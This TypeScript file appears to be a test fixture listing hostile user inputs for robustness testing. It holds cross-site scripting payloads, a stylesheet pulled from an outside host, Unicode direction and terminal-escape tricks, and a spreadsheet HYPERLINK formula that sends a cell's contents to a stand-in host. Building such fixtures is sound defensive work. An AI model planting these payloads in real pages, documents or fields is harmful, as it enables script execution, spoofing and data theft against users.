import { ALARM } from './browser-watch';

/** What a customer's end user may put into a name, an id, a tag or metadata, by what it tries. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  image: `<img src=x onerror=${ALARM}(1)>`,
  script: `"'></title></textarea></script><script>${ALARM}(2)</script>`,
  drawing: `<svg/onload=${ALARM}(3)><math><a xlink:href=javascript:${ALARM}(4)>x`,
  scriptAddress: `javascript:${ALARM}(5)//https://elsewhere.example/`,
  dataAddress: `data:text/html,<script>${ALARM}(6)</script>`,
  handler: `" onmouseover="${ALARM}(7)" autofocus onfocus="${ALARM}(8)" x="`,
  template: `{{constructor.constructor('${ALARM}(9)')()}} \${${ALARM}(10)} <%= ${ALARM}(11) %>`,
  style: `<style>*{display:none}</style><link rel=stylesheet href=//elsewhere.example/x.css>`,
  backwards: '\u202egnp.exe\u202c \u2067right\u2069 \u05d0\u05d1\u05d2 abc \u0627\u0644',
  unclosedBackwards: '\u202e\u202d\u2066\u2067Nobody closes this',
  invisible: '\u200b\u2060\u00ad\u3164\ufeff',
  unbroken: 'W'.repeat(10_000),
  unbrokenNarrow: `${'\ufdfa'.repeat(200)}${'\u{1242b}'.repeat(200)}`,
  terminal: '\u001b[31mred\u001b[0m\u001b]0;title\u0007\u009b31m\u0008\u0008\u007f',
  tower: [...'Zalgo tower'].map((letter) => letter + '\u0337\u0301\u0330\u033f\u0489'.repeat(40)).join(''),
  lines: 'first\r\nsecond\u2028third\n\n\n\n\n\nlast\ttabbed',
  formula: '=HYPERLINK("https://elsewhere.example/?"&A1,"open")',
  prototype: '__proto__',
};
